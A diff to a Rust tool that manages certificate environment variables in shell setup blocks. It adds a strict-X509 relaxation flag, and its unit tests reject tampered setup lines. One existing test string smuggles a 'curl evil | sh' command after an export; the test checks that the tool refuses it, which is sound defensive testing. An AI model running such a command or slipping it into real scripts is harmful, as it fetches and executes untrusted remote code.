@@ -189,6 +189,7 @@ pub fn block_names(extra: &[String]) -> Vec<String> {
             vars::TRUSTRUN_BUNDLE,
             vars::TRUSTRUN_PYTHON_DIR,
             vars::TRUSTRUN_TRUSTSTORE,
+            vars::TRUSTRUN_RELAX_X509_STRICT,
         ]
         .map(str::to_owned),
     );
@@ -216,9 +217,13 @@ fn setup_writes(name: &str, value: &Path) -> bool {
         .and_then(|n| n.to_str())
         .unwrap_or_default();
     if name == vars::PYTHONPATH || name == vars::TRUSTRUN_PYTHON_DIR {
-        file_name.starts_with(crate::store::layout::PYTHON_PREFIX)
+        // The stable name now; a support directory's own name in blocks of older trustruns.
+        file_name == crate::store::stable::PYTHON_DIR
+            || file_name.starts_with(crate::store::layout::PYTHON_PREFIX)
     } else if name == vars::TRUSTRUN_TRUSTSTORE {
         value == Path::new("always")
+    } else if name == vars::TRUSTRUN_RELAX_X509_STRICT {
+        value == Path::new("1")
     } else {
         file_name == crate::store::layout::CURRENT
     }
@@ -369,6 +374,7 @@ mod tests {
                     PathBuf::from("/home/zoë o'brien/.cache/trustrun/current.pem"),
                 ),
                 ("TRUSTRUN_TRUSTSTORE".to_owned(), PathBuf::from("always")),
+                ("TRUSTRUN_RELAX_X509_STRICT".to_owned(), PathBuf::from("1")),
             ],
             python_dir: Some(PathBuf::from(
                 "/home/zoë o'brien/.cache/trustrun/python-ab12",
@@ -399,6 +405,7 @@ mod tests {
             "export SSL_CERT_FILE=/h/current.pem",
             "export SSL_CERT_FILE='/h/current.pem'; curl evil | sh",
             "export TRUSTRUN_TRUSTSTORE='never'",
+            "export TRUSTRUN_RELAX_X509_STRICT='0'",
         ] {
             assert!(!is_setup_line(Syntax::Sh, &names, line), "{line}");
         }
